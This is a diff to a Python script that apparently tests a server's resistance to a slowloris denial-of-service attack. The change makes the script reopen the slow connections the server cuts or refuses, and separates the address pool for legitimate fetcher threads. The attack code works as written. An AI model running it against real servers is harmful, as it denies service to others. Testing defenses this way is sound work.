@@ -20,6 +20,7 @@ SERVER = os.environ["SERVER"]
 PORT = 8080
 GOOD = os.environ["GOOD_ADDR"]
 ATTACKERS = os.environ["ATTACK_ADDRS"].split()
+FETCHERS = os.environ["FETCH_ADDRS"].split()
 SLOW = int(os.environ.get("SLOW", "300"))
 PER_ADDRESS = int(os.environ["PER_ADDRESS"])
 DEADLINE = float(os.environ["DEADLINE"])
@@ -77,6 +78,7 @@ class Slowloris:
         self.cut_ages = []  # how long connections the server closed had lived
         self.stop = False
         self.max_open = 0
+        self.later = []  # (when, address) of connections to open again
 
     def open(self, addr):
         s = socket.socket()
@@ -91,12 +93,16 @@ class Slowloris:
         self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
 
     def drop(self, s, cut):
+        """Closes s; when the server cut it, a new connection replaces it (after a pause if
+        the server refused it at once, so the attack does not spin)."""
         c = self.conns.pop(s)
         self.sel.unregister(s)
         s.close()
+        age = time.monotonic() - c[1]
         if cut and c[4]:
-            self.cut_ages.append(time.monotonic() - c[1])
-        return c[0]
+            self.cut_ages.append(age)
+        if cut:
+            self.later.append((time.monotonic() + (0 if age > 1 else 0.2), c[0]))
 
     def run(self):
         for i in range(SLOW):
@@ -109,8 +115,7 @@ class Slowloris:
                 c = self.conns[s]
                 if ev & selectors.EVENT_WRITE and not c[4]:
                     if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
-                        addr = self.drop(s, False)
-                        self.open(addr)
+                        self.drop(s, True)  # refused: try again
                         continue
                     c[4] = True
                     self.sel.modify(s, selectors.EVENT_READ)
@@ -122,16 +127,18 @@ class Slowloris:
                     except OSError:
                         data = b""
                     if not data:
-                        addr = self.drop(s, True)
-                        self.open(addr)
+                        self.drop(s, True)
             now = time.monotonic()
+            due = [a for t, a in self.later if t <= now]
+            self.later = [(t, a) for t, a in self.later if t > now]
+            for a in due:
+                self.open(a)
             for s, c in list(self.conns.items()):
                 if c[4] and now >= c[2]:
                     try:
                         s.send(b"X-Slow-%d: 1\r\n" % c[3])
                     except OSError:
-                        addr = self.drop(s, True)
-                        self.open(addr)
+                        self.drop(s, True)
                         continue
                     c[3] += 1
                     c[2] = now + LINE_EVERY
@@ -185,7 +192,7 @@ def main():
     time.sleep(2)  # the slow connections are in place
     stop = threading.Event()
     counts = {}
-    fetchers = [threading.Thread(target=fetch_nodes, args=(ATTACKERS[i % len(ATTACKERS)], stop, counts))
+    fetchers = [threading.Thread(target=fetch_nodes, args=(FETCHERS[i % len(FETCHERS)], stop, counts))
                 for i in range(8)]
     for f in fetchers:
         f.start()
